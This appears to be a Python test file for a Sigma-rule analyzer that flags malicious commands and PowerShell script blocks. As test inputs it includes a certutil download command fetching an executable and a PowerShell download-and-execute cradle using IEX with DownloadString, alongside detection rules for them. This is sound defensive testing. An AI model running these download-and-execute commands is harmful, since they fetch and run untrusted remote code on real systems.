"""The Sigma analyzer: commands as process creations, PowerShell layers as script blocks, one
finding per rule and artifact with the rule's attribution."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from pathlib import Path

from inspector.analyzers.sigma import SigmaAnalyzer
from inspector.model import Artifact, ArtifactType
from inspector.sigma import LEVEL_SCORES, SigmaRules
from inspector.sigma.events import CommandLike
from inspector.stage import Payload, ScanContext, ScanLimits
from tests.sigma.helpers import compile_rules, rule_yaml
from tests.sigma.test_events import CMD, Command

RULE_ID = "2c6f0f0e-7d5c-4a8e-9b1e-0d9a0c1b2a3f"
SCRIPT_RULE_ID = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"


def payload(text: str, kind: ArtifactType) -> Payload:
    data = text.encode()
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=kind, origin="test")
    return Payload(artifact=artifact, data=data, text=text)


def rules(tmp_path: Path) -> SigmaRules:
    return compile_rules(
        tmp_path,
        certutil=rule_yaml("sel:\n  Image|endswith: '\\\\certutil.exe'\n  CommandLine|contains: 'urlcache'\n"
                           "condition: sel", rule_id=RULE_ID, title="Certutil download"),
        cradle=rule_yaml("sel:\n  ScriptBlockText|contains|all: ['downloadstring', 'iex']\ncondition: sel",
                         category="ps_script", rule_id=SCRIPT_RULE_ID, level="medium", title="Cradle"),
    )


def certutil_commands(script: Payload, ctx: ScanContext) -> Sequence[CommandLike]:
    line = "certutil -urlcache -f http://x/a.exe a.exe"
    image = "C:\\Windows\\System32\\certutil.exe"
    assert script.text is not None
    return [Command(line, "cmd", image, CMD, script.text.find(line), len(line))] * 2


def no_commands(script: Payload, ctx: ScanContext) -> Sequence[CommandLike]:
    return ()


def ctx() -> ScanContext:
    return ScanContext(limits=ScanLimits())


def test_a_command_matching_a_process_creation_rule_is_one_finding_with_attribution(tmp_path: Path) -> None:
    text = "@echo off\ncertutil -urlcache -f http://x/a.exe a.exe\n"
    out = SigmaAnalyzer(rules(tmp_path), certutil_commands).analyze(payload(text, ArtifactType.CMD), ctx())
    [finding] = out.findings
    assert finding.id == f"sigma.{RULE_ID}" and finding.source == "sigma"
    assert finding.score == LEVEL_SCORES["high"] and finding.count == 2 and finding.attack == ["T1059.001"]
    assert finding.location is not None and finding.location.line == 2
    assert "Test Author" in finding.description and "https://example.test/reference" in finding.description


def test_a_powershell_layer_is_evaluated_as_a_script_block(tmp_path: Path) -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
    out = SigmaAnalyzer(rules(tmp_path), no_commands).analyze(payload(text, ArtifactType.POWERSHELL), ctx())
    assert [f.id for f in out.findings] == [f"sigma.{SCRIPT_RULE_ID}"]
    assert out.findings[0].score == LEVEL_SCORES["medium"]


def test_script_block_rules_do_not_apply_to_other_shells(tmp_path: Path) -> None:
    text = "echo iex downloadstring"
    out = SigmaAnalyzer(rules(tmp_path), no_commands).analyze(payload(text, ArtifactType.SHELL), ctx())
    assert out.findings == []


def test_only_scripts_are_analysed_and_only_with_rules(tmp_path: Path) -> None:
    script = payload("x", ArtifactType.CMD).artifact
    binary = payload("x", ArtifactType.PE).artifact
    assert SigmaAnalyzer(rules(tmp_path)).accepts(script)
    assert not SigmaAnalyzer(rules(tmp_path)).accepts(binary)
    assert not SigmaAnalyzer(SigmaRules()).accepts(script)


def test_a_pattern_that_times_out_is_reported_and_the_other_rules_still_run(tmp_path: Path) -> None:
    slow = compile_rules(
        tmp_path,
        slow=rule_yaml("sel:\n  ScriptBlockText|re: '(a|aa)+b'\ncondition: sel", category="ps_script"),
        cradle=rule_yaml("sel:\n  ScriptBlockText|contains: 'aaaa'\ncondition: sel", category="ps_script",
                         rule_id=SCRIPT_RULE_ID),
    )
    text = "a" * 40 + "!"
    limits = ScanLimits(regex_timeout_s=0.05)
    out = SigmaAnalyzer(slow, no_commands).analyze(payload(text, ArtifactType.POWERSHELL), ScanContext(limits=limits))
    assert [f.id for f in out.findings] == [f"sigma.{SCRIPT_RULE_ID}"]
    assert [kind for kind, _ in out.errors] == ["limit_regex_timeout"]
